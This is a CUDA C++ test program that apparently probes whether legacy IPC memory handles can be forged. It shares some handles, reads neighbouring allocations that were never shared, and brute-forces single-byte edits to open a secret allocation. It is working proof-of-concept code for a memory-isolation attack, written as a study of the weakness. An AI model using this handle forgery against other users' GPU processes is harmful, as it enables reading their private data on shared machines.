// How guessable is a legacy CUDA IPC handle? Prints handles of several allocations; then `forge` tries to open
// an allocation whose handle it was never given, by editing the bytes of another handle of the same process.
#include <cuda.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <unistd.h>
#include <sys/wait.h>
#include <vector>
static CUcontext c; static CUdevice d;
static void init() { cuInit(0); cuDeviceGet(&d, 0); cuDevicePrimaryCtxRetain(&c, d); cuCtxSetCurrent(c); }
static void hex(const char *n, const CUipcMemHandle &h) { printf("%-10s", n); for (int i = 0; i < 64; i++) printf("%02x%s", (unsigned char)h.reserved[i], i % 4 == 3 ? " " : ""); printf("\n"); }
int main(int argc, char **argv) {
  setvbuf(stdout, 0, _IOLBF, 0);
  if (argc > 1 && !strcmp(argv[1], "owner")) { // prints a public handle, keeps a secret allocation
    init(); CUdeviceptr pub, sec, small1, small2; cuMemAlloc(&pub, 4 << 20); cuMemAlloc(&sec, 4 << 20); cuMemsetD32(pub, 0x11111111, 1 << 20); cuMemsetD32(sec, 0x5EC2E700, 1 << 20);
    cuMemAlloc(&small1, 4096); cuMemAlloc(&small2, 4096); cuMemsetD32(small1, 0xAAAAAAAA, 1024); cuMemsetD32(small2, 0xBBBBBBBB, 1024); cuCtxSynchronize();
    CUipcMemHandle h[4]; cuIpcGetMemHandle(&h[0], pub); cuIpcGetMemHandle(&h[1], sec); cuIpcGetMemHandle(&h[2], small1); cuIpcGetMemHandle(&h[3], small2);
    printf("owner pid %d pub %llx sec %llx small1 %llx small2 %llx\n", getpid(), pub, sec, small1, small2); hex("pub", h[0]); hex("secret", h[1]); hex("small1", h[2]); hex("small2", h[3]);
    FILE *f = fopen(getenv("FORGE_FILE"), "wb"); fwrite(h, sizeof h, 1, f); fclose(f); sleep(20); return 0; }
  if (argc > 1 && !strcmp(argv[1], "forge")) {
    init(); CUipcMemHandle h[4]; FILE *f = fopen(getenv("FORGE_FILE"), "rb"); fread(h, sizeof h, 1, f); fclose(f);
    CUdeviceptr p; CUresult r = cuIpcOpenMemHandle(&p, h[0], 1); printf("open pub %d\n", r);
    if (!r) { CUdeviceptr b; size_t n; cuMemGetAddressRange(&b, &n, p); printf("range %llx %zu\n", b, n); cuIpcCloseMemHandle(p); }
    // small1's handle: how much of the neighbours does it expose?
    r = cuIpcOpenMemHandle(&p, h[2], 1); printf("open small1 %d\n", r);
    if (!r) { CUdeviceptr b; size_t n; cuMemGetAddressRange(&b, &n, p); printf("small1 ptr %llx base %llx size %zu\n", p, b, n); std::vector<unsigned> v(n / 4); r = cuMemcpyDtoH(v.data(), b, n); size_t bb = 0, aa = 0; for (auto x : v) { bb += x == 0xBBBBBBBB; aa += x == 0xAAAAAAAA; } printf("read %d: words of small1 %zu, of small2 (never shared) %zu\n", r, aa, bb); cuIpcCloseMemHandle(p); }
    // edit bytes: which of the 64 matter, and does a small change reach the secret?
    int opened = 0, secret = 0; 
    for (int i = 0; i < 64; i++) for (int dlt = 1; dlt < 256; dlt++) { CUipcMemHandle g = h[0]; g.reserved[i] = (char)(g.reserved[i] + dlt); r = cuIpcOpenMemHandle(&p, g, 1); if (!r) { unsigned x = 0; CUdeviceptr b; size_t n; cuMemGetAddressRange(&b, &n, p); cuMemcpyDtoH(&x, p, 4); opened++; if (x == 0x5EC2E700) { secret++; printf("FORGED: byte %d %02x->%02x opens the secret (size %zu)\n", i, (unsigned char)h[0].reserved[i], (unsigned char)g.reserved[i], n); } cuIpcCloseMemHandle(p); } }
    printf("single-byte edits that open something: %d, that open the secret: %d\n", opened, secret);
    return 0; }
  return 2;
}
